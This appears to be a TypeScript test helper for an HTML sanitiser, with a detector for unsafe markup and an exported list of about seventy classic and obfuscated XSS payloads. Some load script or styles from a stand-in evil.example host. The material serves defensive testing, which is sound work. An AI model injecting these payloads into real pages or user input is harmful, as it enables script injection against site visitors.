/**
 * Test helper: lists what in a piece of HTML a browser could turn into running script, an
 * outgoing request the page did not intend, or restyling. Deliberately independent of the
 * sanitiser's own code (its own entity decoder, its own tag scan) so that a bug there is not
 * mirrored here.
 */

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'background',
  'poster',
  'xlink:href',
  'srcset',
  'cite',
]);
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g;
const BAD_URL = /^((javascript|vbscript|livescript):|data:(?!image\/(png|gif|jpe?g|webp)[;,]))/;

export const FORBIDDEN_TAGS = [
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'svg',
  'math',
  'form',
  'button',
  'textarea',
  'select',
  'base',
  'meta',
  'link',
  'body',
  'html',
  'head',
  'template',
  'noscript',
  'video',
  'audio',
  'source',
  'marquee',
];

export interface UnsafeMarkupOptions {
  /** Skip the forbidden-tag check (for whole pages, which have their own head and SVG). */
  allowStructuralTags?: boolean;
}

export function findUnsafeMarkup(html: string, options: UnsafeMarkupOptions = {}): string[] {
  const problems: string[] = [];
  if (/<script/i.test(html)) problems.push('a <script> tag');
  for (const [tag] of html.matchAll(/<[a-zA-Z][^>]*>/g)) {
    const name = /^<([a-zA-Z][\w:-]*)/.exec(tag)?.[1]?.toLowerCase() ?? '';
    if (!options.allowStructuralTags && FORBIDDEN_TAGS.includes(name)) {
      problems.push(`a <${name}> tag`);
    }
    // Attributes are read properly, so a quoted value that merely reads "onerror=" as text
    // is not mistaken for an attribute.
    const body = tag.slice(name.length + 1).replace(/\/?>$/, '');
    for (const m of body.matchAll(ATTRIBUTE)) {
      const attr = (m[1] ?? '').toLowerCase();
      const value = (m[2] ?? '').replace(/^["']|["']$/g, '');
      if (/^on/.test(attr)) problems.push(`an event handler in ${tag}`);
      if (attr === 'style' || attr === 'srcdoc') problems.push(`${attr} in ${tag}`);
      if (URL_ATTRIBUTES.has(attr) && BAD_URL.test(normalise(value))) {
        problems.push(`a dangerous URL in ${tag}`);
      }
    }
  }
  return problems;
}

function normalise(url: string): string {
  return (
    browserDecode(url)
      // eslint-disable-next-line no-control-regex
      .replace(/[\s\u0000-\u001f]/g, '')
      .toLowerCase()
  );
}

/** One pass of character-reference decoding, as the browser does for an attribute value. */
function browserDecode(value: string): string {
  const named: Record<string, string> = {
    amp: '&',
    lt: '<',
    gt: '>',
    quot: '"',
    apos: "'",
    colon: ':',
    tab: '\t',
    newline: '\n',
  };
  return value.replace(
    /&(?:#x([0-9a-f]+);?|#(\d+);?|([a-z]+);)/gi,
    (match, hex?: string, dec?: string, name?: string) => {
      if (hex) return String.fromCodePoint(Math.min(parseInt(hex, 16), 0x10ffff));
      if (dec) return String.fromCodePoint(Math.min(parseInt(dec, 10), 0x10ffff));
      return named[(name ?? '').toLowerCase()] ?? match;
    },
  );
}

/** Classic and obfuscated XSS payloads, as Markdown or raw HTML a postmortem might contain. */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)">',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC="javascript:alert(1);">',
  '<img src=javascript:alert(1)>',
  '<img src="jav\tascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<A HREF="JaVaScRiPt:alert(1)">x</A>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#9;ascript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href="javascript&#38;#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javas\u0000cript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">x</a>',
  '<a href="#" title="x" onfocus="alert(1)" autofocus>x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="checkbox" onclick="alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video><source onerror="alert(1)"></video>',
  '<x onclick=alert(1)>click</x>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<a href="x" <img src=x onerror=alert(1)>>y</a>',
  '"><img src=x onerror=alert(1)>',
  "'><script>alert(1)</script>",
];
